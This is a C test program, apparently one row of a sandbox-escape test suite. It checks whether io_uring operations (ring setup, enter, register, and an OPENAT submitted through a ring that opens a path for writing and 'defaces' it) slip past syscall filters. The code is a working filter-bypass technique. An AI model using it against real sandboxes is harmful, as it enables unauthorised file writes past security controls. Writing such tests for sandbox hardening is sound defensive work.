/*
 * Row 15: io_uring does system calls that no filter sees: setting up a ring, or using one that was inherited.
 * Ways: setup, open PATH (opens PATH through a ring and writes to it), enter [FD], register [FD] (without FD the
 * program makes the ring itself, as its parent would have)
 */
#include "attack.h"
#include <linux/io_uring.h>
#include <sys/mman.h>

static int setup(struct io_uring_params *parameters) {
	memset(parameters, 0, sizeof *parameters);
	return (int)syscall(SYS_io_uring_setup, 4, parameters);
}

static void *map(int ring, size_t length, off_t offset) {
	void *address = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED, ring, offset);
	if (address == MAP_FAILED)
		blocked("mmap(ring)", errno);
	return address;
}

static void open_by_ring(const char *path) {
	struct io_uring_params p;
	int ring = (int)need("io_uring_setup", setup(&p));
	char *submissions = map(ring, p.sq_off.array + p.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
	char *completions = map(ring, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
	struct io_uring_sqe *entries = map(ring, p.sq_entries * sizeof *entries, IORING_OFF_SQES);
	struct io_uring_cqe *results = (struct io_uring_cqe *)(void *)(completions + p.cq_off.cqes);
	unsigned *tail = (unsigned *)(void *)(submissions + p.sq_off.tail);
	unsigned *array = (unsigned *)(void *)(submissions + p.sq_off.array);

	memset(&entries[0], 0, sizeof entries[0]);
	entries[0].opcode = IORING_OP_OPENAT;
	entries[0].fd = AT_FDCWD;
	entries[0].addr = (uint64_t)(uintptr_t)path;
	entries[0].open_flags = O_WRONLY;
	array[0] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	need("io_uring_enter", syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
	if (results[0].res < 0)
		blocked("io_uring(openat)", -results[0].res);
	deface("io_uring(openat)", results[0].res);
}

static int ring_or_own(void) {
	struct io_uring_params p;
	return attack_argc > 0 ? (int)number(0) : (int)need("io_uring_setup", setup(&p));
}

int main(int argc, char **argv) {
	begin(argc, argv);
	if (way("setup")) {
		struct io_uring_params p;
		judge("io_uring_setup", setup(&p));
	}
	if (way("open"))
		open_by_ring(argument(0));
	if (way("enter"))
		judge("io_uring_enter", syscall(SYS_io_uring_enter, ring_or_own(), 0, 0, 0, NULL, 0));
	if (way("register")) {
		struct io_uring_probe *probe = calloc(1, sizeof *probe + 256 * sizeof(struct io_uring_probe_op));
		judge("io_uring_register",
		      syscall(SYS_io_uring_register, ring_or_own(), IORING_REGISTER_PROBE, probe, 256));
	}
	broken("arguments", "unknown way");
}
